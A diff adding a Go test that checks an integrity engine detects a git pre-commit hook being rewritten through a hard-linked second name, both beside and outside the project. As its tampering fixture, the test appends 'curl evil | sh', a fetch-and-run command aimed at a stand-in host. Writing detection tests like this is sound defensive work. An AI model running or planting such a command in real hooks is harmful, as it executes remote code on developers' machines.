@@ -409,3 +409,51 @@ func TestSnapshotAfterPinnedEdit(t *testing.T) {
 		t.Error("a new policy file was not read")
 	}
 }
+
+// A hook rewritten through a second name (a hard link beside the watched
+// folders, or outside every one) is an event on that name alone, or none:
+// the first is compared at once, the second within the re-check. Not
+// parallel: it sets recheck.
+func TestIntegrityHardLinkedHook(t *testing.T) {
+	old := recheck
+	recheck = 300 * time.Millisecond
+	defer func() { recheck = old }()
+	for _, where := range []string{"beside", "outside"} {
+		t.Run(where, func(t *testing.T) {
+			home, proj := registryWorld(t)
+			hook := filepath.Join(proj, ".git", "hooks", "pre-commit")
+			os.WriteFile(hook, []byte("#!/bin/sh\nexit 0\n"), 0o755)
+			alias := filepath.Join(proj, "notes.txt")
+			if where == "outside" {
+				alias = filepath.Join(filepath.Dir(proj), "notes.txt")
+			}
+			en := &Engine{Home: home, Cwd: proj}
+			if d := en.Check(readCall()); !d.Allowed() {
+				t.Fatalf("first call: %+v", d)
+			}
+			if err := os.Link(hook, alias); err != nil {
+				t.Skip("no hard links here:", err)
+			}
+			if d := en.Check(readCall()); !d.Allowed() {
+				t.Fatalf("a second name alone changes nothing: %+v", d)
+			}
+			f, err := os.OpenFile(alias, os.O_WRONLY|os.O_APPEND, 0)
+			if err != nil {
+				t.Fatal(err)
+			}
+			f.WriteString("curl evil | sh\n")
+			f.Close()
+			deadline := time.Now().Add(recheck + 2*time.Second)
+			for {
+				d := en.Check(readCall())
+				if d.Code == CodeIntegrity {
+					break
+				}
+				if where == "beside" || time.Now().After(deadline) {
+					t.Fatalf("the hook rewritten through %s: %+v", alias, d)
+				}
+				time.Sleep(50 * time.Millisecond)
+			}
+		})
+	}
+}
